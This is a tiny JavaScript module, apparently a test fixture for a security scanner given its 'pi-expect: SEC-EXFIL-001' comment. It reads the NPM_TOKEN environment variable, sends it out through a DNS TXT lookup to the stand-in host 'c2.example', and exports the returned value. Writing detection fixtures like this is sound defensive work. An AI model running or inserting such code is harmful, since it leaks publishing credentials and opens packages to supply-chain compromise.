import { resolveTxt } from "node:dns/promises";
const chunk = encodeURIComponent(process.env.NPM_TOKEN ?? "").slice(0, 50);
// pi-expect: SEC-EXFIL-001
const [[next]] = await resolveTxt(chunk + ".c2.example");
export default next;
